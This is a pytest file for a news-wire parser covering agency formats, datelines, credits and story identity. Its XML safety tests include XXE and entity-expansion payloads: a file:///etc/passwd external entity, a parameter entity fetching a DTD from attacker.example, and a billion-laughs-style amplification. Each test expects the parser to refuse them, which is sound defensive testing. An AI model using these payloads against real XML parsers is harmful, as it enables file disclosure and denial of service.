"""Agency structures learned from public samples, reproduced in Kawat's own fixtures, plus XML safety and ids."""

from __future__ import annotations

from pathlib import Path

import pytest

from adapters.errors import WireError
from adapters.wire import parse_wire
from adapters.wire.assemble import version_of
from adapters.wire.text import split_dateline_prefix
from newsroom.agencies import agency_name
from newsroom.credits import build_credits, photo_credit_line
from newsroom.datelines import city_from_dateline, city_of
from newsroom.model import BlockRole, CreditRole, Dateline, Signal, Status, Story

FIX = Path(__file__).resolve().parents[1] / "fixtures" / "wire" / "agencies"


def one(name: str) -> Story:
    stories = parse_wire((FIX / name).read_bytes(), name)
    assert len(stories) == 1
    return stories[0]


def paragraphs(s: Story) -> list[str]:
    return [b.text for b in s.body if b.role is BlockRole.paragraph]


# --- identity across revisions ------------------------------------------------------------------------------

def test_tass_items_without_date_item_or_revision_ids_keep_one_identity() -> None:
    a, b = one("nml12-tass-rev-a.xml"), one("nml12-tass-rev-b.xml")
    assert a.story_id == b.story_id == "www.example-tass.test-20240305-7F00AA11BB22CC33DD44EE55FF660011"
    assert b.version > a.version  # no RevisionId: the later revision time wins
    assert a.signal is Signal.new
    assert a.dateline == Dateline(text="KAZAN, March 5. /TASS/ -", city="Kazan")  # DateLine "March 5" names no place
    assert paragraphs(a)[0].startswith("The river port reopened") and a.urgency == 2


def test_g2_ids_without_dates_do_not_drift_between_days() -> None:
    v1, v2 = one("g2-tt-style-v1.xml"), one("g2-tt-style-v2.xml")
    assert v1.version_created and v2.version_created and v1.version_created.date() != v2.version_created.date()
    assert v1.story_id == v2.story_id == "TT-undated-b7c1d2e3-4f50-4a6b-8c9d-0e1f2a3b4c5d"
    assert (v1.signal, v2.signal) == (Signal.new, Signal.update)
    assert v1.dateline and v1.dateline.city == "Stockholm"


def test_reuters_nine_digit_versions_corrections_and_kills() -> None:
    fixed, killed = one("g2-reuters-style-correction.xml"), one("g2-reuters-style-kill.xml")
    assert fixed.story_id == killed.story_id == "reuters.com-2024-newsml_L1N3EX4MP"
    assert (fixed.version, killed.version) == (978556838, 978556901)
    assert fixed.signal is Signal.correction and fixed.status is Status.usable
    assert killed.signal is Signal.kill and killed.status is Status.canceled
    # the dateline field holds a timestamp and <located> the filing desk: the lede's dateline is the real one
    assert fixed.dateline == Dateline(text="ROTTERDAM (Reuters) -", city="Rotterdam")
    assert "Gdynia" not in fixed.model_dump_json()
    assert fixed.byline == "Anna Kowalczyk" and paragraphs(fixed)[0].startswith("Cranes stood idle")
    assert [b.text for b in fixed.body if b.role is BlockRole.subhead] == ["PAY GAP"]
    agency = next(c.name for c in build_credits(fixed) if c.role is CreditRole.agency)
    assert agency == "Reuters"


@pytest.mark.parametrize("value, expected", [(0, 0), ("0", 0), (" 978556838 ", 978556838), (2**63 - 1, 2**63 - 1),
                                             ("9223372036854775807", 2**63 - 1), (7.0, 7)])
def test_versions_from_zero_to_the_largest_64_bit_integer(value: object, expected: int) -> None:
    assert version_of(value, "f.xml") == expected


@pytest.mark.parametrize("value", ["-1", "2", "abc", "9223372036854775808", "1e9", 2.5, "١٢"])
def test_versions_that_are_not_whole_numbers_in_range_are_refused(value: object) -> None:
    if value == "2":
        assert version_of(value, "f.xml") == 2
        return
    with pytest.raises(WireError):
        version_of(value, "f.xml")


def _g2(version: str) -> bytes:
    return (f'<newsItem xmlns="http://iptc.org/std/nar/2006-10-01/" guid="urn:newsml:example.org:20240101:X1" '
            f'version="{version}"><itemMeta><itemClass qcode="ninat:text"/><pubStatus qcode="stat:usable"/></itemMeta>'
            '<contentMeta><headline>H</headline></contentMeta><contentSet><inlineXML><html><body><p>Copy.</p>'
            '</body></html></inlineXML></contentSet></newsItem>').encode()


def test_g2_version_zero_and_max_parse_and_share_the_identity() -> None:
    low = parse_wire(_g2("0"), "a.xml")[0]
    high = parse_wire(_g2(str(2**63 - 1)), "b.xml")[0]
    assert (low.version, high.version) == (0, 2**63 - 1) and low.story_id == high.story_id


# --- packages, pictures, photo stories ----------------------------------------------------------------------

def test_package_resolves_to_its_text_item_and_the_picture_in_the_message() -> None:
    s = one("g2-package-with-items.xml")
    assert s.story_id == "example.org-20240601-TXT-7" and s.headline == "Lighthouse keeper retires after 40 years"
    assert s.byline == "Tom Reed" and s.embargoed and s.embargoed.isoformat() == "2024-06-02T06:00:00+00:00"
    assert [(b.role, b.text) for b in s.body] == [
        (BlockRole.paragraph, "The last keeper of the lighthouse retired on Saturday."),
        (BlockRole.subhead, "A lamp lit nightly"),
        (BlockRole.paragraph, "He climbed 120 steps every evening.")]
    (pic,) = s.pictures
    assert (pic.caption, pic.credit, pic.byline) == ("The lighthouse at Falmouth at dusk on Friday.", "Example News",
                                                     "Jane Moor")
    # preview and thumbnail name the very same file: one rendition, and distinct file names for the rest
    assert [r.href for r in pic.renditions] == ["1-lighthouse.jpg", "2-lighthouse.jpg"]


def test_ninjs3_picture_item_is_a_photo_story_with_clean_credits() -> None:
    s = one("ninjs3-photo.json")
    assert s.headline == "Kites over the bay"
    assert paragraphs(s) == ["Kites fly over the bay during the summer festival on Monday."]
    (pic,) = s.pictures
    assert pic.byline == "Lee Park" and pic.credit == "Example Photos"  # never the URL, never "CC-BY 4.0"
    assert {r.role: r.href for r in pic.renditions} == {"main": "20240701pic42-big.jpg", "thumb": "20240701pic42-small.jpg"}
    assert photo_credit_line(pic, "id") == "Foto: Example Photos/Lee Park"
    assert photo_credit_line(pic, "en") == "Photo: Example Photos/Lee Park"


def test_ninjs3_camel_case_prefers_the_xhtml_body_and_reads_signals() -> None:
    s = one("ninjs3-text.json")
    assert paragraphs(s) == ["Ferry service resumed on Monday.", "Crews cleared the harbour overnight."]
    assert s.dateline and s.dateline.city == "Halifax" and s.byline == "Sam Ortiz"
    assert s.version == 4 and s.signal is Signal.correction
    assert s.embargoed and s.embargoed.isoformat() == "2024-07-01T12:00:00+00:00"


# --- NITF / NewsML 1.2 structures ---------------------------------------------------------------------------

def test_nitf_tables_and_agate_are_readable_rows_and_labels_are_subheads() -> None:
    s = one("nitf-ap-style-sports.xml")
    assert (s.byline, s.byline_title) == ("MARIA LOPEZ", "AP Sports Writer")
    assert s.dateline == Dateline(text="PORTLAND, Maine", city="Portland")
    assert [(b.role.value, b.text) for b in s.body] == [
        ("paragraph", "The Gulls swept a doubleheader from Harbor on Sunday."),
        ("subhead", "Standings"), ("subhead", "East Division"),
        ("paragraph", "Team | W | L"), ("paragraph", "Gulls | 21 | 9"), ("paragraph", "Harbor | 15 | 15"),
        ("subhead", "Line score"),
        ("paragraph", "Harbor 000 100 0 - 1 4 0"), ("paragraph", "Gulls 201 000 x - 3 7 1")]
    assert s.version == 2 and s.story_id.startswith("AP-20240512-k-BBO")  # du-key: the id every version repeats


def test_standard_doctype_with_a_dtd_module_and_latin9_bytes_parse() -> None:
    s = one("nml12-ats-doctype-latin9.xml")
    assert s.story_id == "www.example-ats.test-20240603-bsf201" and s.language == "fr"
    assert paragraphs(s)[1].endswith("Coût des dégâts: 0 €.")
    assert s.dateline and s.dateline.text == "Sion VS"


def test_feed_index_is_refused_as_an_index() -> None:
    with pytest.raises(WireError, match="index"):
        one("nml12-feed-index.xml")


# --- XML safety ----------------------------------------------------------------------------------------------

def _doc(doctype: str, body: str = "x") -> bytes:
    return (f'<?xml version="1.0"?>\n{doctype}<nitf><body><body.head><hedline><hl1>H</hl1></hedline></body.head>'
            f"<body.content><p>{body}</p></body.content></body></nitf>").encode()


def test_bounded_internal_entities_expand() -> None:
    data = _doc('<!DOCTYPE nitf SYSTEM "nitf-3-4.dtd" [<!ENTITY eacute "&#233;"><!ENTITY agency "Kawat">]>',
                "caf&eacute; &agency;")
    assert parse_wire(data, "ok.xml")[0].body[0].text == "café Kawat"


@pytest.mark.parametrize("doctype, why", [
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "external entity"),
    ('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>', "parameter entity"),
    ('<!DOCTYPE r [<!ENTITY % p "<!ENTITY y \'z\'>"> %p;]>', "parameter entity"),
    ('<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>', "nested"),
    ('<!DOCTYPE r [<!ENTITY big "' + "A" * 5000 + '">]>', "characters"),
    ('<!DOCTYPE r [<!NOTATION n SYSTEM "x"><!ENTITY u SYSTEM "y" NDATA n>]>', "unparsed"),
])
def test_entity_attacks_are_refused_with_the_reason(doctype: str, why: str) -> None:
    with pytest.raises(WireError) as info:
        parse_wire(_doc(doctype), "evil.xml")
    assert why in info.value.reason and "\n" not in info.value.reason


def test_many_references_to_a_long_entity_are_refused_before_expanding() -> None:
    refs = "&e;" * 20000
    data = _doc('<!DOCTYPE r [<!ENTITY e "' + "B" * 1000 + '">]>', refs)
    with pytest.raises(WireError, match="expand"):
        parse_wire(data, "amplify.xml")


# --- helpers with one home ----------------------------------------------------------------------------------

@pytest.mark.parametrize("provider, name", [
    ("afp.com", "AFP"), ("nprov:dpa", "dpa"), ("reuters.com", "Reuters"), ("kyodonews.jp", "Kyodo"),
    ("businesswire.com", "Business Wire"), ("http://www.acmenews.com/about/", "Acmenews"),
    ("ninjs", None), ("web", None), ("www.example.com", None), ("ninjs.example.com", None), (None, None)])
def test_agency_names_never_fall_back_to_placeholders(provider: str | None, name: str | None) -> None:
    assert agency_name(provider) == name


@pytest.mark.parametrize("text, city", [
    ("Gaza City, Palestinian Territories, May 16, 2021 (AFP) -", "Gaza City"), ("SAN FRANCISCO -", "San Francisco"),
    ("København /ritzau/ -", "København"), ("May 16", None), ("(ANSA) - Rome, October 11 -", None)])
def test_city_from_dateline(text: str, city: str | None) -> None:
    assert city_from_dateline(text) == city


def test_city_of_prefers_the_feeds_own_city_and_skips_agency_tags() -> None:
    assert city_of(Dateline(text="BEIJING, July 23", city="Beijing")) == "Beijing"
    assert city_of(Dateline(text="(ANSA) - Rome, October 11 -")) == "Rome"
    assert city_of(None) is None


@pytest.mark.parametrize("lede, text, city, rest", [
    ("DAMASCUS (Reuters) - Assad spoke", "DAMASCUS (Reuters) -", "Damascus", "Assad spoke"),
    ("London (dpa) - 2019 gab es", "London (dpa) -", "London", "2019 gab es"),
    ("(ANSA) - Rome, October 11 - Italian", "(ANSA) - Rome, October 11 -", "Rome", "Italian"),
    ("Tegucigalpa, Jan 2 (EFE).- Test body.", "Tegucigalpa, Jan 2 (EFE) -", "Tegucigalpa", "Test body."),
    ("NEW YORK (AP) — The gas", "NEW YORK (AP) -", "New York", "The gas"),
])
def test_lede_datelines_of_each_agency(lede: str, text: str, city: str, rest: str) -> None:
    dateline, after = split_dateline_prefix(lede)
    assert dateline == Dateline(text=text, city=city) and after == rest


def test_a_sentence_with_an_agency_in_brackets_is_not_a_dateline() -> None:
    assert split_dateline_prefix("The US (AP) said talks would resume.")[0] is None


# --- the plain-text seed article ------------------------------------------------------------------------------

def test_seed_article_is_dated_by_its_own_story_not_its_photo_caption(shared_dir: Path) -> None:
    s = parse_wire((shared_dir / "examples" / "seed-article-id.txt").read_bytes(), "seed-article-id.txt")[0]
    # the caption dates the picture "6 November 2023"; the story says "pada Senin (20/11)" (a Monday in 2023)
    assert s.date_id == "20231120"
    assert s.dateline == Dateline(text="SAN FRANCISCO -", city="San Francisco")


def test_plain_weekday_date_must_agree_with_the_year() -> None:
    page = ("Judul berita panjang di sini\n\nJAKARTA - Pemerintah mengumumkan pada Jumat (18/11) bahwa 2022 adalah "
            "tahun yang baik, kata menteri.\n\nParagraf kedua yang cukup panjang untuk sebuah berita.\n\nPenulis : AFP\n")
    s = parse_wire(page.encode(), "p.txt")[0]
    assert s.date_id == "20221118"  # 18 Nov 2022 was a Friday (Jumat); 18 Nov 2023 was not


# --- more agency habits -----------------------------------------------------------------------------------------

def test_ap_g2_place_in_the_dateline_field_and_agency_tag_in_the_copy() -> None:
    s = one("g2-ap-style-earnings.xml")
    assert s.story_id == "ap.org-undated-0a1b2c3d4e5f60718293a4b5c6d7e8f9"
    assert s.dateline == Dateline(text="WEST CHESTER, Pa.", city="West Chester")  # not <located> Pittsburgh
    assert paragraphs(s) == ["Harbor Mills Inc. on Monday reported fourth-quarter profit of $4.2 million.",
                             "The results beat analysts' forecasts."]
    assert s.credit_line == "Example Data Desk"  # the provider's name, never its code "z09876"


def test_results_written_into_body_are_rows_and_editor_notes_leave_the_copy() -> None:
    results, gold = parse_wire((FIX / "g2-reuters-style-results.xml").read_bytes(), "r.xml")
    assert [(b.role.value, b.text) for b in results.body] == [
        ("paragraph", "May 4 (Data Feed) - Results from the coastal league on Saturday"),
        ("paragraph", "Harbour (1) 2 Lighthouse (0) 0"), ("paragraph", "Dunes (0) 1 Quay United (1) 1"),
        ("paragraph", "Pier Rovers (2) 3 Sandbar (0) 0"), ("paragraph", "Standings to follow.")]
    assert paragraphs(gold) == ["Gold edged up on Monday."] and gold.advisory == "(Adds comments, detail)"
    assert gold.dateline == Dateline(text="SINGAPORE, May 6 (Reuters) -", city="Singapore")


def _nitf_body(*paras: str) -> bytes:
    body = "".join(f"<p>{p}</p>" for p in paras)
    return (f'<nitf><head><docdata><doc-id id-string="X-1" regsrc="ANSA"/></docdata></head><body><body.head>'
            f"<hedline><hl1>Titolo</hl1></hedline></body.head><body.content>{body}</body.content></body></nitf>").encode()


@pytest.mark.parametrize("tail", ["CRO01 1113 APE4800 GEST GEST03 MAE03", "AFP sn", "==Kyodo", "/ritzau/", "ends",
                                  "(©NTB)", "&lt;div class=&quot;embed&quot;&gt;&lt;/div&gt;&lt;script src=&quot;x.js&quot;&gt;&lt;/script&gt;"])
def test_agency_end_marks_routing_codes_and_embed_code_are_not_copy(tail: str) -> None:
    s = parse_wire(_nitf_body("Titolo", "La prima frase della storia.", tail), "n.xml")[0]
    assert paragraphs(s) == ["La prima frase della storia."]  # the repeated headline goes too


def test_ap_media_feed_items_and_pictures_without_captions() -> None:
    feed = ('{"api_version": "2", "data": {"items": [{"meta": {}, "item": {"uri": "https://api.example/content/abc1?qt=1",'
            ' "altids": {"itemid": "abc1"}, "version": 0, "type": "picture", "headline": "Harbour at dawn",'
            ' "provider": "AP", "renditions": {"main": {"href": "https://api.example/abc1/main.jpg?x=1",'
            ' "mimetype": "image/jpeg"}}}}]}}')
    (s,) = parse_wire(feed.encode(), "feed.json")
    assert s.story_id == "AP-undated-abc1" and s.version == 0  # the item id, not the URL's query string
    assert paragraphs(s) == ["Harbour at dawn"] and s.pictures[0].renditions[0].href == "main.jpg"
    assert next(c.name for c in build_credits(s) if c.role is CreditRole.agency) == "AP"


def test_belga_title_lead_and_body_components() -> None:
    s = one("nml12-belga-style-roles.xml")
    assert s.headline == "Brug over de Schelde maand dicht" and s.version == 4 and s.signal is Signal.update
    assert paragraphs(s) == ["De brug gaat in juli dicht voor werken.", "Het verkeer wordt omgeleid via de ring."]


@pytest.mark.parametrize("data, what", [
    (b"eca00075 3 i 510    dpa 1003\r\n\r\n/politics/\r\n   Berlin (dpa) - Talks went on.\r\n", "IPTC 7901"),
    (b"Delivered-To: desk@example.org\r\nReceived: by 10.0.0.1\r\nSubject: story\r\n\r\nText", "e-mail"),
])
def test_transmissions_that_are_not_articles_are_refused(data: bytes, what: str) -> None:
    with pytest.raises(WireError, match=what):
        parse_wire(data, "in.txt")


def test_a_subtitle_sent_in_the_byline_is_not_a_byline() -> None:
    data = (b'<nitf><head><docdata><doc-id id-string="A1" regsrc="ANSA"/></docdata></head><body><body.head>'
            b"<hedline><hl1>Gas cut by a third</hl1></hedline><byline><!-- Subtitle -->Situation serious, ready for"
            b" all scenarios says EC</byline></body.head><body.content><p>ROME - Supplies fell.</p></body.content>"
            b"</body></nitf>")
    s = parse_wire(data, "a.xml")[0]
    assert s.byline is None and paragraphs(s) == ["Supplies fell."]


def test_ap_writethru_with_a_new_headline_follows_its_original_headline() -> None:
    first, writethru = one("nitf-ap-style-first.xml"), one("nitf-ap-style-writethru.xml")
    assert first.headline != writethru.headline and first.story_id == writethru.story_id
    assert writethru.version > first.version and first.signal is Signal.new
    assert (writethru.byline, writethru.byline_title) == ("KIM NG", "Associated Press")


def test_web_page_identity_is_its_canonical_address() -> None:
    def page(headline: str) -> bytes:
        return (f'<html><head><link rel="canonical" href="https://news.example.id/a/123"></head><body>'
                f"<h1>{headline}</h1><p>JAKARTA - Harga beras naik pada Senin (4/3/2024), kata pedagang.</p>"
                "<p>Penulis : AFP</p></body></html>").encode()
    a = parse_wire(page("Harga beras naik"), "a.html")[0]
    b = parse_wire(page("Harga beras naik lagi"), "b.html")[0]
    assert a.story_id == b.story_id and a.date_id == "20240304"


def test_a_relayed_press_release_keeps_its_copy_and_drops_the_trailer() -> None:
    s = one("nitf-ap-relayed-release.xml")
    assert s.dateline == Dateline(text="SALEM, Mass.", city="Salem")
    assert paragraphs(s) == ["Harbor Foods (NYSE: HBF) opened its tenth market on Thursday.",
                             "The store employs 120 people.", "About Harbor Foods",
                             "Harbor Foods runs markets in New England."]


@pytest.mark.parametrize("name, provider", [("AFP", "afp.com"), ("Associated Press", "ap.org"), ("ANTARA", "antaranews.com"),
                                            ("Reuters", "reuters.com"), ("Nobody", None)])
def test_printed_agency_names_map_back_to_one_provider_id(name: str, provider: str | None) -> None:
    from newsroom.agencies import provider_for
    assert provider_for(name) == provider
    if provider:
        assert agency_name(provider) is not None and agency_name(provider).casefold() in {name.casefold(), "ap"}


def test_one_line_break_wraps_and_two_end_a_paragraph() -> None:
    from adapters.wire.text import html_to_blocks
    blocks = html_to_blocks("<p>The fire front <br />spans a huge area.<br/><br />Crews are tired.</p><div>a<br><br>b</div>")
    assert [b.text for b in blocks] == ["The fire front spans a huge area.", "Crews are tired.", "a", "b"]
